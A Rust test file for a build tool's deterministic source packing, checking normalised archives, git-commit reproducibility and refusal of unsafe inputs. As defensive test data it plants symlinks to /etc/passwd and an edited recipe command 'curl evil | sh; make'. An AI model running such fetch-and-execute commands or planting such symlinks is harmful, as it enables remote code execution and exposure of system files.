//! Deterministic source packing: the same tree gives the same bytes (git and plain
//! directories), mtimes and owners never leak, the executable bit and symlinks are kept,
//! escaping symlinks are refused, and git mode packs the committed tree only.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use kiln_host::source::{pack, pack_dir, SourceError};

fn tree(root: &Path) {
    std::fs::create_dir_all(root.join("src/empty")).unwrap();
    std::fs::write(root.join("kiln.toml"), "[build]\n").unwrap();
    std::fs::write(root.join("src/main.c"), "int main(void){return 0;}\n").unwrap();
    std::fs::write(root.join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
    std::fs::set_permissions(
        root.join("build.sh"),
        std::fs::Permissions::from_mode(0o775),
    )
    .unwrap();
    std::os::unix::fs::symlink("src/main.c", root.join("link.c")).unwrap();
}

/// (path, mode, mtime, uid, gid, kind, link target) of an entry.
type EntryInfo = (String, u32, u64, u64, u64, u8, Option<String>);

/// Every entry of the archive.
fn entries(archive: &[u8]) -> Vec<EntryInfo> {
    let mut a = tar::Archive::new(archive);
    a.entries()
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            let h = e.header();
            (
                e.path().unwrap().to_string_lossy().into_owned(),
                h.mode().unwrap(),
                h.mtime().unwrap(),
                h.uid().unwrap(),
                h.gid().unwrap(),
                h.entry_type().as_byte(),
                e.link_name()
                    .unwrap()
                    .map(|l| l.to_string_lossy().into_owned()),
            )
        })
        .collect()
}

#[test]
fn directory_packing_is_deterministic_and_normalised() {
    let a = tempfile::tempdir().unwrap();
    tree(a.path());
    let first = pack_dir(a.path(), None).unwrap();
    // Touch everything and change group-write bits: nothing of it may leak.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    for f in ["kiln.toml", "src/main.c", "build.sh"] {
        let p = a.path().join(f);
        let data = std::fs::read(&p).unwrap();
        std::fs::write(&p, data).unwrap();
    }
    std::fs::set_permissions(
        a.path().join("kiln.toml"),
        std::fs::Permissions::from_mode(0o664),
    )
    .unwrap();
    let second = pack_dir(a.path(), None).unwrap();
    assert_eq!(first.archive, second.archive);
    assert_eq!(first.sha256, second.sha256);
    assert_eq!(first.source_date_epoch, 0);
    assert_eq!(first.commit, None);

    // The same tree built elsewhere, in another order, gives the same bytes.
    let b = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("src/main.c", b.path().join("link.c")).unwrap();
    std::fs::create_dir_all(b.path().join("src/empty")).unwrap();
    std::fs::write(b.path().join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
    std::fs::set_permissions(
        b.path().join("build.sh"),
        std::fs::Permissions::from_mode(0o700),
    )
    .unwrap();
    std::fs::write(b.path().join("src/main.c"), "int main(void){return 0;}\n").unwrap();
    std::fs::write(b.path().join("kiln.toml"), "[build]\n").unwrap();
    assert_eq!(pack_dir(b.path(), None).unwrap().archive, first.archive);

    let list = entries(&first.archive);
    let names: Vec<&str> = list.iter().map(|e| e.0.as_str()).collect();
    assert_eq!(
        names,
        [
            "build.sh",
            "kiln.toml",
            "link.c",
            "src/",
            "src/empty/",
            "src/main.c"
        ]
    );
    for (path, mode, mtime, uid, gid, kind, link) in &list {
        assert_eq!((*mtime, *uid, *gid), (0, 0, 0), "{path}");
        match path.as_str() {
            "build.sh" | "src/" | "src/empty/" => assert_eq!(*mode, 0o755, "{path}"),
            "link.c" => {
                assert_eq!(*kind, b'2');
                assert_eq!(link.as_deref(), Some("src/main.c"));
            }
            _ => assert_eq!(*mode, 0o644, "{path}"),
        }
    }
    let mut a_entries = tar::Archive::new(first.archive.as_slice());
    for e in a_entries.entries().unwrap() {
        let e = e.unwrap();
        assert_eq!(e.header().username().unwrap(), Some(""));
        assert_eq!(e.header().groupname().unwrap(), Some(""));
    }
}

#[test]
fn git_and_out_dirs_are_skipped_and_escapes_refused() {
    let a = tempfile::tempdir().unwrap();
    tree(a.path());
    std::fs::create_dir(a.path().join(".git")).unwrap();
    std::fs::write(a.path().join(".git/HEAD"), "junk").unwrap();
    std::fs::create_dir(a.path().join("kiln-out")).unwrap();
    std::fs::write(a.path().join("kiln-out/old"), "x").unwrap();
    let with_out = pack_dir(a.path(), Some(&a.path().join("kiln-out"))).unwrap();
    let names: Vec<String> = entries(&with_out.archive)
        .into_iter()
        .map(|e| e.0)
        .collect();
    assert!(!names
        .iter()
        .any(|n| n.starts_with(".git") || n.starts_with("kiln-out")));

    std::os::unix::fs::symlink("../../etc/passwd", a.path().join("src/evil")).unwrap();
    let e = pack_dir(a.path(), None).unwrap_err();
    assert!(matches!(e, SourceError::EscapingSymlink { .. }), "{e}");
    assert!(e.to_string().contains("src/evil"), "{e}");
}

fn git(dir: &Path, args: &[&str]) {
    let st = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_AUTHOR_DATE", "2024-01-02T03:04:05Z")
        .env("GIT_COMMITTER_DATE", "2024-01-02T03:04:05Z")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .status()
        .unwrap();
    assert!(st.success(), "git {args:?}");
}

#[test]
fn git_tree_packs_the_committed_subtree() {
    let repo = tempfile::tempdir().unwrap();
    git(repo.path(), &["init", "-q", "-b", "main"]);
    std::fs::write(repo.path().join("top.txt"), "outside the subtree\n").unwrap();
    let proj = repo.path().join("proj");
    std::fs::create_dir(&proj).unwrap();
    tree(&proj);
    git(repo.path(), &["add", "-A"]);
    git(repo.path(), &["commit", "-q", "-m", "one"]);

    let first = pack(&proj, None).unwrap();
    assert_eq!(first.source_date_epoch, 1_704_164_645);
    let commit = first.commit.clone().unwrap();
    assert_eq!(commit.len(), 40);
    assert!(!first.dirty);
    let list = entries(&first.archive);
    let names: Vec<&str> = list.iter().map(|e| e.0.as_str()).collect();
    // Git has no empty folders; the parent folder is there, the repo's top file is not.
    assert_eq!(
        names,
        ["build.sh", "kiln.toml", "link.c", "src/", "src/main.c"]
    );
    for (path, mode, mtime, ..) in &list {
        assert_eq!(*mtime, 1_704_164_645, "{path}");
        if path == "build.sh" {
            assert_eq!(*mode, 0o755);
        }
    }

    // Working-tree changes are not packed, but noticed.
    std::fs::write(proj.join("src/main.c"), "changed\n").unwrap();
    std::fs::write(proj.join("untracked.txt"), "new\n").unwrap();
    let second = pack(&proj, None).unwrap();
    assert!(second.dirty);
    assert_eq!(second.archive, first.archive);
    assert_eq!(second.commit.as_deref(), Some(commit.as_str()));

    // A clone elsewhere packs to the same bytes.
    let clone = tempfile::tempdir().unwrap();
    let st = Command::new("git")
        .args(["clone", "-q"])
        .arg(repo.path())
        .arg(clone.path().join("c"))
        .status()
        .unwrap();
    assert!(st.success());
    let third = pack(&clone.path().join("c/proj"), None).unwrap();
    assert_eq!(third.archive, first.archive);
    assert_eq!(third.sha256, first.sha256);
}

#[test]
fn git_symlink_escape_is_refused() {
    let repo = tempfile::tempdir().unwrap();
    git(repo.path(), &["init", "-q", "-b", "main"]);
    std::fs::write(repo.path().join("a"), "x").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", repo.path().join("evil")).unwrap();
    git(repo.path(), &["add", "-A"]);
    git(repo.path(), &["commit", "-q", "-m", "one"]);
    let e = pack(repo.path(), None).unwrap_err();
    assert!(matches!(e, SourceError::EscapingSymlink { .. }), "{e}");
}

/// `kiln build` of a git tree builds the committed tree, so the recipe must be the committed
/// one: an uncommitted change to the command (or a recipe that is not committed at all) is
/// refused before anything is launched, naming the file and the commit.
#[test]
fn an_uncommitted_recipe_is_refused() {
    let repo = tempfile::tempdir().unwrap();
    git(repo.path(), &["init", "-q", "-b", "main"]);
    let proj = repo.path().join("proj");
    std::fs::create_dir(&proj).unwrap();
    let recipe = "[build]\ncommand = \"make\"\noutputs = [\"hello\"]\n";
    std::fs::write(proj.join("kiln.toml"), recipe).unwrap();
    std::fs::write(proj.join("Makefile"), "hello:\n\techo hi > hello\n").unwrap();
    git(repo.path(), &["add", "-A"]);
    git(repo.path(), &["commit", "-q", "-m", "one"]);
    let commit = pack(&proj, None).unwrap().commit.unwrap();
    let packed = pack(&proj, None).unwrap();
    assert_eq!(packed.recipe.as_deref(), Some(recipe.as_bytes()));
    kiln_host::build_recipe::check_packed(&proj, &packed).unwrap();

    let build = |dir: &Path| {
        let state = tempfile::tempdir().unwrap();
        Command::new(env!("CARGO_BIN_EXE_kiln"))
            .args(["build"])
            .arg(dir)
            .arg("--out")
            .arg(state.path().join("out"))
            .env("KILN_STATE_DIR", state.path())
            .output()
            .unwrap()
    };
    // The attacker's (or a careless) edit: another command under the same commit.
    std::fs::write(
        proj.join("kiln.toml"),
        recipe.replace("make", "curl evil | sh; make"),
    )
    .unwrap();
    let o = build(&proj);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "the recipe differs from the one in commit {commit}"
        )),
        "{err}"
    );
    assert!(err.contains("kiln.toml"), "{err}");

    // A recipe that exists only in the working tree.
    git(repo.path(), &["rm", "-q", "--cached", "proj/kiln.toml"]);
    git(repo.path(), &["commit", "-q", "-m", "untrack"]);
    let o = build(&proj);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("the recipe is not in commit"), "{err}");
}
